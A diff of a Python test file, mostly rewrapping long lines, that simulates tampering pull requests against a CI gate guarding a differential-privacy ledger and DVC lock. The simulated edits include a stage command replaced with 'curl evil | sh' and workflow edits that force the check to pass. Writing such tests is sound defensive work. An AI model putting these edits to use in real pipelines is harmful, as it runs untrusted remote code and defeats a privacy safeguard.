@@ -1,4 +1,6 @@
-"""What a pull request can do to the gate, `stage ledger check` in CI: refused, or named in docs/tutorials/ci.md."""
+"""What a pull request can do to the gate, `stage ledger check` in CI: refused, or named in
+docs/tutorials/ci.md.
+"""
 
 import hashlib
 import json
@@ -75,7 +77,9 @@ def rebuild(change: Callable[[list[dict]], object] = len, others: bool = True, *
     change(records)
     journal = [*records, ABORTED] if others else records
     given = {"dataset_id": records[0]["dataset_id"], "head": old["odometer"]["head"] or "f" * 64}
-    LEDGER.write_text(ledger_text(build_ledger(old | budget, {r["id"]: r for r in records}, journal, **given)))
+    LEDGER.write_text(
+        ledger_text(build_ledger(old | budget, {r["id"]: r for r in records}, journal, **given))
+    )
 
 
 def record_of(records: list[dict], stage: str) -> dict:
@@ -121,7 +125,9 @@ def rewritten(change: Callable[[list[dict]], object] = len, **more) -> Callable[
 
 
 def replaced(path: Path, target: str | None = None, text: str | bytes = "") -> Callable[[], None]:
-    """A link, or other content, in the place of a file; beside a ledger that was made cheaper and signed."""
+    """A link, or other content, in the place of a file; beside a ledger that was made cheaper and
+    signed.
+    """
 
     def edit() -> None:
         rebuild(raise_noise)
@@ -184,7 +190,9 @@ def forget_count(stages: dict) -> None:
     """The entry of `count`, and what all other stages say of it."""
     del stages["count"]
     for stage in stages.values():
-        stage["deps"] = [file for file in stage.get("deps", ()) if file["path"] != "artifacts/count"]
+        stage["deps"] = [
+            file for file in stage.get("deps", ()) if file["path"] != "artifacts/count"
+        ]
 
 
 def respell_count(stages: dict) -> None:
@@ -209,7 +217,8 @@ TOGETHER = "`ledger.json` and `dvc.lock` together"
 NEXT_RUN = "`params.yaml`, recipes, profiles"
 SETTINGS = "`.dvc/config`, `.gitignore`, `.gitattributes`"
 NESTED = "[" * 100_000
-# Each edit of a pull request; the row of the page that covers it, if the gate accepts it; else what the gate says.
+# Each edit of a pull request; the row of the page that covers it, if the gate accepts it; else what
+# the gate says.
 EDITS: dict[str, tuple[Callable[[], object], str]] = {
     # the lock
     "lock deleted": (both(lambda: rebuild(raise_noise), LOCK.unlink), "dvc.lock does not exist"),
@@ -224,17 +233,50 @@ EDITS: dict[str, tuple[Callable[[], object], str]] = {
     "lock nested deeply": (replaced(LOCK, text=NESTED), "nested more than"),
     "lock with an alias": (replaced(LOCK, text="schema: &a '2.0'\nstages: {x: *a}"), "an alias"),
     "lock of another schema": (with_text(LOCK, "'2.0'", "'1.0'"), "dvc.lock cannot be read"),
-    "lock with a stage twice": (appended(LOCK, "  ledger: {outs: []}\n"), "the key 'ledger' appears twice"),
-    "lock without the ledger": (in_lock(lambda stages: stages.pop("ledger")), "does not list ledger.json"),
-    "lock with two ledgers": (both(lambda: rebuild(raise_noise), in_lock(list_twice)), "as written by two stages"),
-    "ledger's md5 changed": (in_lock(lambda x: out_of(x, "ledger").update(md5="0" * 32)), "a different md5"),
-    "ledger's md5 missing": (in_lock(lambda x: out_of(x, "ledger").pop("md5")), "gives no md5 of ledger.json"),
-    "ledger's hash missing": (in_lock(lambda x: out_of(x, "ledger").pop("hash")), "gives no md5 of ledger.json"),
-    "ledger's hash another": (in_lock(lambda x: out_of(x, "ledger").update(hash="sha1")), "gives no md5 of ledger"),
-    "query's hash missing": (in_lock(lambda x: out_of(x, "count").pop("hash")), "gives no md5 of artifacts/count"),
-    "query ran after the ledger": (in_lock(lambda x: out_of(x, "count").update(md5=OTHER)), "written before"),
-    "release made after the ledger": (in_lock(lambda x: out_of(x, "synthesize").update(md5=OTHER)), "written before"),
-    "query and record removed": (without_count(lambda stages: stages.pop("count")), "stage count ran"),
+    "lock with a stage twice": (
+        appended(LOCK, "  ledger: {outs: []}\n"),
+        "the key 'ledger' appears twice",
+    ),
+    "lock without the ledger": (
+        in_lock(lambda stages: stages.pop("ledger")),
+        "does not list ledger.json",
+    ),
+    "lock with two ledgers": (
+        both(lambda: rebuild(raise_noise), in_lock(list_twice)),
+        "as written by two stages",
+    ),
+    "ledger's md5 changed": (
+        in_lock(lambda x: out_of(x, "ledger").update(md5="0" * 32)),
+        "a different md5",
+    ),
+    "ledger's md5 missing": (
+        in_lock(lambda x: out_of(x, "ledger").pop("md5")),
+        "gives no md5 of ledger.json",
+    ),
+    "ledger's hash missing": (
+        in_lock(lambda x: out_of(x, "ledger").pop("hash")),
+        "gives no md5 of ledger.json",
+    ),
+    "ledger's hash another": (
+        in_lock(lambda x: out_of(x, "ledger").update(hash="sha1")),
+        "gives no md5 of ledger",
+    ),
+    "query's hash missing": (
+        in_lock(lambda x: out_of(x, "count").pop("hash")),
+        "gives no md5 of artifacts/count",
+    ),
+    "query ran after the ledger": (
+        in_lock(lambda x: out_of(x, "count").update(md5=OTHER)),
+        "written before",
+    ),
+    "release made after the ledger": (
+        in_lock(lambda x: out_of(x, "synthesize").update(md5=OTHER)),
+        "written before",
+    ),
+    "query and record removed": (
+        without_count(lambda stages: stages.pop("count")),
+        "stage count ran",
+    ),
     "query spelled otherwise": (without_count(respell_count), "stage count ran"),
     "query called switched off": (
         without_count(lambda x: out_of(x, "count").update(md5=empty_artifact_md5("count"))),
@@ -248,26 +290,50 @@ EDITS: dict[str, tuple[Callable[[], object], str]] = {
     "ledger empty": (replaced(LEDGER), "truncated or not JSON"),
     "ledger in conflict": (lambda: conflict(LEDGER), "git checkout HEAD -- ledger.json dvc.lock"),
     "ledger nested deeply": (both(replaced(LEDGER, text=NESTED), relock), "nested more than"),
-    "ledger with a key twice": (both(with_text(LEDGER, '"delta"', '"delta": 0.1, "delta"'), relock), "appears twice"),
-    "ledger in other line ends": (appended(".gitattributes", "ledger.json text eol=crlf\n"), "a different md5"),
-    "target lowered": (with_text(LEDGER, '"target": 10.0', '"target": 5.0'), "its digest does not match"),
+    "ledger with a key twice": (
+        both(with_text(LEDGER, '"delta"', '"delta": 0.1, "delta"'), relock),
+        "appears twice",
+    ),
+    "ledger in other line ends": (
+        appended(".gitattributes", "ledger.json text eol=crlf\n"),
+        "a different md5",
+    ),
+    "target lowered": (
+        with_text(LEDGER, '"target": 10.0', '"target": 5.0'),
+        "its digest does not match",
+    ),
     "epsilon lowered, signed": (resigned(cheaper), "its records come to"),
     "record removed, signed": (lambda: rebuild(trim_count), "a different md5"),
     "noise raised, signed": (lambda: rebuild(raise_noise), "a different md5"),
     "accountant swapped, signed": (lambda: rebuild(accountant="exact"), "a different md5"),
     "dataset renamed, signed": (lambda: rebuild(each(dataset_id="new")), "a different md5"),
     "odometer lowered, signed": (lambda: rebuild(others=False), "a different md5"),
-    "odometer's total lowered": (resigned(lambda x: x["odometer"].update(epsilon=1.0)), "its odometer's epsilon"),
-    "record listed twice": (resigned(lambda x: x["records"].append(x["records"][0])), "contains a record twice"),
-    "noise by a seed": (resigned(lambda x: x["records"][0].update(noise_source=SEEDED)), "seeded noise source"),
+    "odometer's total lowered": (
+        resigned(lambda x: x["odometer"].update(epsilon=1.0)),
+        "its odometer's epsilon",
+    ),
+    "record listed twice": (
+        resigned(lambda x: x["records"].append(x["records"][0])),
+        "contains a record twice",
+    ),
+    "noise by a seed": (
+        resigned(lambda x: x["records"][0].update(noise_source=SEEDED)),
+        "seeded noise source",
+    ),
     "record without noise": (rewritten(each(noise_source="none")), "no privacy guarantee"),
     "units mixed": (resigned(lambda x: x["records"][0].update(OF_GROUPS)), "different units"),
     "target raised": (
-        both(rewritten(lambda records: records.append(DEAR), target=50.0), appended("params.yaml", "\n# ε = 50\n")),
+        both(
+            rewritten(lambda records: records.append(DEAR), target=50.0),
+            appended("params.yaml", "\n# ε = 50\n"),
+        ),
         "exceeds the limit 10",
     ),
     "delta raised": (
-        rewritten(lambda records: record_of(records, "teacher")["event"].update(noise_multiplier=1.4), delta=6e-4),
+        rewritten(
+            lambda records: record_of(records, "teacher")["event"].update(noise_multiplier=1.4),
+            delta=6e-4,
+        ),
         "exceeds the limit 10",
     ),
     "unit renamed": (rewritten(each(**OF_GROUPS)), "its privacy unit is"),
@@ -278,21 +344,50 @@ EDITS: dict[str, tuple[Callable[[], object], str]] = {
     "noise raised, locked": (rewritten(raise_noise), TOGETHER),
     "query removed everywhere": (without_count(forget_count), TOGETHER),
     # other files
-    "another stage's md5": (in_lock(lambda x: out_of(x, "report").update(md5=OTHER)), "other entries of `dvc.lock`"),
-    "bound of the workflow raised": (with_text(WORKFLOW, "--epsilon 10", "--epsilon 99"), "the workflow"),
-    "workflow that always passes": (with_text(WORKFLOW, "- run: stage", "- run: true || stage"), "the workflow"),
+    "another stage's md5": (
+        in_lock(lambda x: out_of(x, "report").update(md5=OTHER)),
+        "other entries of `dvc.lock`",
+    ),
+    "bound of the workflow raised": (
+        with_text(WORKFLOW, "--epsilon 10", "--epsilon 99"),
+        "the workflow",
+    ),
+    "workflow that always passes": (
+        with_text(WORKFLOW, "- run: stage", "- run: true || stage"),
+        "the workflow",
+    ),
     "workflow deleted": (WORKFLOW.unlink, "the workflow"),
-    "package of someone else": (with_text(WORKFLOW, 'install "$SFUMATO"', "install ./package"), "the workflow"),
+    "package of someone else": (
+        with_text(WORKFLOW, 'install "$SFUMATO"', "install ./package"),
+        "the workflow",
+    ),
     "budget of the next run": (appended("params.yaml", "\nprivacy: {epsilon: 99}\n"), NEXT_RUN),
     "recipe of the next run": (appended("pipelines/full.yaml", "\n# changed\n"), NEXT_RUN),
-    "profile of the next run": (appended("pipelines/profiles/demo.yaml", "\n# changed\n"), NEXT_RUN),
-    "command of a stage": (with_text(Path("dvc.yaml"), "cmd: stage count", "cmd: curl evil | sh"), "`dvc.yaml`"),
-    "stage frozen": (with_text(Path("dvc.yaml"), "    cmd: stage count", "    frozen: true\n    cmd: x"), "`dvc.yaml`"),
+    "profile of the next run": (
+        appended("pipelines/profiles/demo.yaml", "\n# changed\n"),
+        NEXT_RUN,
+    ),
+    "command of a stage": (
+        with_text(Path("dvc.yaml"), "cmd: stage count", "cmd: curl evil | sh"),
+        "`dvc.yaml`",
+    ),
+    "stage frozen": (
+        with_text(Path("dvc.yaml"), "    cmd: stage count", "    frozen: true\n    cmd: x"),
+        "`dvc.yaml`",
+    ),
     "package beside the ledger": (
-        both(*(appended(f"{name}/__init__.py", "raise SystemExit(0)\n") for name in ("sfumato", "stages"))),
+        both(
+            *(
+                appended(f"{name}/__init__.py", "raise SystemExit(0)\n")
+                for name in ("sfumato", "stages")
+            )
+        ),
         "code",
     ),
-    "remote of someone else": (appended(".dvc/config", "['remote \"x\"']\n    url = s3://x\n"), SETTINGS),
+    "remote of someone else": (
+        appended(".dvc/config", "['remote \"x\"']\n    url = s3://x\n"),
+        SETTINGS,
+    ),
     "ignored files taken": (Path(".gitignore").unlink, SETTINGS),
     "ledger hidden in reviews": (appended(".gitattributes", "ledger.json -diff\n"), SETTINGS),
 }
@@ -307,7 +402,9 @@ def git(folder: Path, *words: str) -> None:
 
 @pytest.fixture(scope="module")
 def base(tmp_path_factory) -> Path:
-    """The repository's own demo as a project: its parameters, recipes, lock and ledger, with an aborted charge."""
+    """The repository's own demo as a project: its parameters, recipes, lock and ledger, with an
+    aborted charge.
+    """
     folder = tmp_path_factory.mktemp("gate") / "base"
     folder.mkdir()
     for name in ("params.yaml", "dvc.yaml", ".gitignore", ".dvc/config"):
@@ -329,7 +426,9 @@ def base(tmp_path_factory) -> Path:
 
 
 def gate(base: Path, edit: Callable[[], object], environment) -> tuple[int, str]:
-    """Exit code and words of the base's own command on a fresh checkout of a pull request that makes this edit."""
+    """Exit code and words of the base's own command on a fresh checkout of a pull request that
+    makes this edit.
+    """
     fork, checkout = base.with_name("fork"), base.with_name("checkout")
     for folder in (fork, checkout):
         shutil.rmtree(folder, ignore_errors=True)
